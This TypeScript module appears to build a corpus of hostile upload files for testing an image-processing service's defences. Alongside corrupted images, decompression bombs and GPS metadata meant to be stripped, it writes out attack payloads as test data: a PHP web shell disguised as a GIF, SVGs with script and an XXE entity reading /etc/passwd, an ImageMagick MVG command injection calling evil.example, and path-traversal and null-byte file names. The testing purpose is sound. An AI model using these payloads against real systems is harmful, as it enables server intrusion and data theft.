import { readFile } from "node:fs/promises";
import path from "node:path";
import { deflateSync } from "node:zlib";
import sharp from "sharp";
import { photoLike } from "./photos.ts";

export type HostileFile = { name: string; bytes: Uint8Array<ArrayBuffer>; fileName?: string; type?: string };

/** A mark inside every piece of metadata of the corpus: it must be found nowhere in what we store. */
export const secretMark = "GPS-SECRET-51.4769N-0.0005W";

const gps = {
  IFD0: { ImageDescription: secretMark, Copyright: secretMark, Make: secretMark },
  IFD3: {
    GPSLatitudeRef: "N",
    GPSLatitude: "51/1 28/1 37/1",
    GPSLongitudeRef: "W",
    GPSLongitude: "0/1 0/1 2/1",
    GPSProcessingMethod: secretMark,
  },
};

const xmp = `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="51,28.6N" exif:UserComment="${secretMark}"/></rdf:RDF></x:xmpmeta>`;

/**
 * Photos as a phone takes them held upright: stored on their side, with a note on how to turn them and where they were taken.
 * Upright they are 200 × 320 with a red square in the top left corner.
 *
 * No library of ours can write a HEIC, so one is kept: the same drawing as a JPEG on its side, given GPS, XMP and orientation 6 by
 * `exiftool`, turned into a HEIC by `heif-enc -q 60` (which carries EXIF and XMP along), and given the `irot` property of 270°
 * that a phone writes beside the EXIF orientation. A decoder that obeyed both would turn it twice.
 */
export async function locatedFiles(): Promise<HostileFile[]> {
  const onItsSide = sharp(await uprightDrawing().png().toBuffer()).rotate(-90);
  const located = sharp(await onItsSide.png().toBuffer())
    .withMetadata({ orientation: 6 })
    .withExifMerge(gps)
    .withXmp(xmp);
  const files = {
    JPEG: await located.clone().jpeg().toBuffer(),
    PNG: await located.clone().png().toBuffer(),
    WebP: await located.clone().webp().toBuffer(),
    AVIF: await located.clone().avif({ effort: 0 }).toBuffer(),
    HEIC: await readFile(path.join(import.meta.dirname, "located.heic")),
  };
  return Object.entries(files).map(([format, bytes]) => ({ name: `GPS in ${format}`, bytes: new Uint8Array(bytes) }));
}

function uprightDrawing() {
  const [width, height, corner] = [200, 320, 60];
  const data = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) {
    for (let x = 0; x < width; x++) {
      const vein = Math.sin(x / 3 + Math.sin(y / 9) * 3) * 28 + Math.cos(y / 4) * 18;
      const colour = x < corner && y < corner ? [200, 30, 30] : [70 + vein, 135 + vein, 55 + vein];
      data.set(colour, (y * width + x) * 3);
    }
  }
  return sharp(data, { raw: { width, height, channels: 3 } });
}

/** Files that somebody could send to hurt or to trick us, made anew for each run but for one. */
export async function hostileFiles(): Promise<HostileFile[]> {
  const jpeg = await photoLike().jpeg().toBuffer();
  const png = await photoLike().png().toBuffer();
  const webp = await photoLike().webp().toBuffer();
  const gif = await photoLike({ width: 320, height: 240 }).gif().toBuffer();
  const avif = await photoLike({ width: 320, height: 240 }).avif({ effort: 0 }).toBuffer();
  const good = { jpeg, png, webp, gif, avif };
  return [
    ...Object.entries(good).flatMap(([format, bytes]) => damaged(format, bytes)),
    ...scripts(jpeg),
    ...bombs(),
    ...(await unusualPictures()),
    ...(await locatedFiles()),
    ...(await withMetadata()),
    ...lyingNames(jpeg, png),
  ].map((file) => ({ ...file, bytes: new Uint8Array(file.bytes) }));
}

type Made = Omit<HostileFile, "bytes"> & { bytes: Uint8Array };

function damaged(format: string, bytes: Buffer): Made[] {
  const flipped = Buffer.from(bytes);
  for (let at = 200; at < flipped.length; at += 97) flipped[at] = (flipped[at] ?? 0) ^ 0xff;
  return [
    { name: `${format} cut after its first bytes`, bytes: bytes.subarray(0, 16) },
    { name: `${format} cut in the middle`, bytes: bytes.subarray(0, Math.floor(bytes.length / 2)) },
    { name: `${format} without its last bytes`, bytes: bytes.subarray(0, bytes.length - 20) },
    { name: `${format} with flipped bytes`, bytes: flipped },
    { name: `${format} with a megabyte of zeros behind it`, bytes: Buffer.concat([bytes, Buffer.alloc(1_000_000)]) },
  ];
}

function scripts(jpeg: Buffer): Made[] {
  const svg = `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="800" height="600" onload="alert(1)"><script>alert(1)</script><image href="file:///etc/passwd"/></svg>`;
  const html = "<!DOCTYPE html><script>fetch('/api/user')</script>";
  const text = (name: string, content: string, type?: string): Made => ({ name, bytes: Buffer.from(content), ...(type && { type }) });
  return [
    { name: "nothing", bytes: Buffer.alloc(0) },
    { name: "one byte", bytes: Buffer.from([0xff]) },
    { name: "zeros", bytes: Buffer.alloc(50_000) },
    { name: "noise", bytes: Buffer.from(Array.from({ length: 50_000 }, (_, index) => (index * 7919) % 251)) },
    text("SVG with a script", svg, "image/svg+xml"),
    text("SVG that calls itself a JPEG", svg, "image/jpeg"),
    text(
      "SVG with external entities",
      `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
    ),
    text("HTML that calls itself a JPEG", html, "image/jpeg"),
    text("JavaScript", "alert(1)", "image/png"),
    text("PHP in a GIF's clothes", "GIF89a<?php system($_GET['c']); ?>", "image/gif"),
    text("a PDF", "%PDF-1.7\n1 0 obj<<>>endobj", "image/jpeg"),
    text(
      "ImageMagick's MVG",
      "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://evil.example/x.jpg\"|ls \"-la)'\npop graphic-context",
    ),
    text("PostScript", "%!PS-Adobe-3.0\n(x) run"),
    { name: "a ZIP", bytes: Buffer.from("504b0304140000000800", "hex") },
    { name: "an ELF program", bytes: Buffer.from("7f454c46020101000000000000000000", "hex") },
    { name: "JPEG and HTML in one", bytes: Buffer.concat([jpeg, Buffer.from(html)]) },
    { name: "JPEG and ZIP in one", bytes: Buffer.concat([jpeg, Buffer.from("504b030414000000080000", "hex"), Buffer.from(secretMark)]) },
    { name: "JPEG with a script in a comment", bytes: withJpegComment(jpeg, `${html}${secretMark}`) },
    { name: "only a JPEG's first bytes, then HTML", bytes: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff]), Buffer.from(html)]) },
    { name: "a BMP", bytes: Buffer.from("424d3600000000000000360000002800000001000000", "hex") },
    { name: "a TIFF", bytes: Buffer.from("49492a0008000000", "hex") },
    { name: "a HEIC container with no picture", bytes: heicShell(["heic", "mif1"]) },
    {
      name: "a HEIC container with noise",
      bytes: Buffer.concat([heicShell(["heic", "mif1"]), Buffer.alloc(5_000, 0x5a), Buffer.from(secretMark)]),
    },
    { name: "an MP4", bytes: heicShell(["isom", "mp42"]) },
    { name: "an AVIF container with no picture", bytes: heicShell(["avif", "mif1"]) },
  ];
}

/** Small files that ask for gigabytes. */
function bombs(): Made[] {
  return [
    { name: "PNG of 30,000 × 30,000", bytes: pngBomb(30_000, 30_000) },
    { name: "PNG of 65,535 × 1,000", bytes: pngBomb(65_535, 1_000) },
    { name: "PNG that promises 2 billion pixels a side", bytes: pngBomb(0x7fffffff, 0x7fffffff, 1_000) },
    { name: "GIF of 65,535 × 65,535", bytes: gifBomb() },
    { name: "WebP of 16,383 × 16,383", bytes: webpBomb() },
    { name: "JPEG of 65,500 × 65,500", bytes: jpegBomb() },
  ];
}

async function unusualPictures(): Promise<Made[]> {
  const base = photoLike();
  const pages = await Promise.all([1, 2, 3].map((seed) => photoLike({ width: 320, height: 240, seed }).png().toBuffer()));
  const animation = sharp(pages, { join: { animated: true } });
  return [
    { name: "animated GIF", bytes: await animation.clone().gif().toBuffer() },
    { name: "animated WebP", bytes: await animation.clone().webp().toBuffer() },
    { name: "CMYK JPEG", bytes: await base.clone().toColourspace("cmyk").jpeg().toBuffer() },
    { name: "16-bit PNG", bytes: await base.clone().toColourspace("rgb16").png().toBuffer() },
    { name: "palette PNG", bytes: await base.clone().png({ palette: true, colours: 16 }).toBuffer() },
    { name: "grey JPEG", bytes: await base.clone().greyscale().jpeg().toBuffer() },
    { name: "PNG with transparency", bytes: await base.clone().ensureAlpha(0.4).png().toBuffer() },
    { name: "progressive JPEG", bytes: await base.clone().jpeg({ progressive: true }).toBuffer() },
    { name: "interlaced PNG", bytes: await base.clone().png({ progressive: true }).toBuffer() },
    { name: "lossless WebP", bytes: await base.clone().webp({ lossless: true }).toBuffer() },
    { name: "panorama", bytes: await photoLike({ width: 6_000, height: 200 }).jpeg().toBuffer() },
    { name: "one pixel", bytes: await photoLike({ width: 1, height: 1 }).png().toBuffer() },
    { name: "black picture", bytes: await flat("#000000") },
    { name: "white picture", bytes: await flat("#ffffff") },
    { name: "blurred picture", bytes: await photoLike().blur(30).jpeg().toBuffer() },
  ];
}

async function withMetadata(): Promise<Made[]> {
  const huge = "x".repeat(60_000);
  return [
    {
      name: "huge EXIF in a JPEG",
      bytes: await photoLike()
        .withExif({ IFD0: { ImageDescription: huge + secretMark } })
        .jpeg()
        .toBuffer(),
    },
    { name: "text chunks in a PNG", bytes: withPngText(await photoLike().png().toBuffer(), secretMark) },
    { name: "a comment in a JPEG", bytes: withJpegComment(await photoLike().jpeg().toBuffer(), secretMark) },
    { name: "a turned photo", bytes: await photoLike({ width: 640, height: 360 }).withMetadata({ orientation: 6 }).jpeg().toBuffer() },
    {
      name: "an impossible orientation",
      bytes: await photoLike()
        .withExif({ IFD0: { Orientation: "99" } })
        .jpeg()
        .toBuffer(),
    },
  ];
}

function lyingNames(jpeg: Buffer, png: Buffer): Made[] {
  return [
    { name: "a name that climbs out of its folder", bytes: jpeg, fileName: "../../../../etc/cron.d/evil" },
    { name: "a name with a null byte", bytes: jpeg, fileName: "photo.php\0.jpg" },
    { name: "a name of 4,000 letters", bytes: jpeg, fileName: `${"n".repeat(4_000)}.jpg` },
    { name: "a name with a script", bytes: jpeg, fileName: `"><script>alert(1)</script>.jpg` },
    { name: "a PNG that calls itself a JPEG", bytes: png, fileName: "photo.jpg", type: "image/jpeg" },
    { name: "a JPEG that calls itself a program", bytes: jpeg, fileName: "photo.exe", type: "application/x-msdownload" },
  ];
}

async function flat(background: string): Promise<Buffer> {
  return sharp({ create: { width: 640, height: 480, channels: 3, background } })
    .jpeg()
    .toBuffer();
}

function withJpegComment(jpeg: Buffer, text: string): Buffer {
  const comment = Buffer.from(text);
  const head = Buffer.from([0xff, 0xfe, (comment.length + 2) >> 8, (comment.length + 2) & 0xff]);
  return Buffer.concat([jpeg.subarray(0, 2), head, comment, jpeg.subarray(2)]);
}

function withPngText(png: Buffer, text: string): Buffer {
  const afterHeader = 8 + 25;
  return Buffer.concat([png.subarray(0, afterHeader), pngChunk("tEXt", Buffer.from(`Location\0${text}`)), png.subarray(afterHeader)]);
}

function pngBomb(width: number, height: number, rows = Math.min(height, 30_000)): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([1, 0, 0, 0, 0], 8);
  const row = Math.min(Math.ceil(width / 8) + 1, 8_192);
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    pngChunk("IHDR", header),
    pngChunk("IDAT", deflateSync(Buffer.alloc(row * Math.min(rows, 30_000)), { level: 9 })),
    pngChunk("IEND", Buffer.alloc(0)),
  ]);
}

function pngChunk(type: string, data: Buffer): Buffer {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const check = Buffer.alloc(4);
  check.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, check]);
}

function crc32(bytes: Buffer): number {
  let crc = 0xffffffff;
  for (const byte of bytes) {
    crc ^= byte;
    for (let bit = 0; bit < 8; bit++) crc = crc & 1 ? (crc >>> 1) ^ 0xedb88320 : crc >>> 1;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function gifBomb(): Buffer {
  return Buffer.concat([
    Buffer.from("GIF89a"),
    Buffer.from([0xff, 0xff, 0xff, 0xff, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff]),
    Buffer.from([0x2c, 0, 0, 0, 0, 0xff, 0xff, 0xff, 0xff, 0, 2, 2, 0x44, 1, 0, 0x3b]),
  ]);
}

function webpBomb(): Buffer {
  // A lossless header whose 14-bit sizes are all ones.
  const payload = Buffer.from([0x2f, 0xff, 0xff, 0xff, 0x0f, 0, 0, 0, 0, 0]);
  const size = Buffer.alloc(4);
  size.writeUInt32LE(payload.length);
  const riff = Buffer.alloc(4);
  riff.writeUInt32LE(4 + 8 + payload.length);
  return Buffer.concat([Buffer.from("RIFF"), riff, Buffer.from("WEBPVP8L"), size, payload]);
}

function jpegBomb(): Buffer {
  return Buffer.from("ffd8ffe000104a46494600010100000100010000ffc0000b08ffdcffdc01011100ffda0008010100003f00d2cf20ffd9", "hex");
}

function heicShell(brands: string[]): Buffer {
  const [major = "heic", ...rest] = brands;
  const body = Buffer.concat([Buffer.from(`ftyp${major}`), Buffer.alloc(4), Buffer.from(rest.join(""))]);
  const size = Buffer.alloc(4);
  size.writeUInt32BE(body.length + 4);
  return Buffer.concat([size, body]);
}
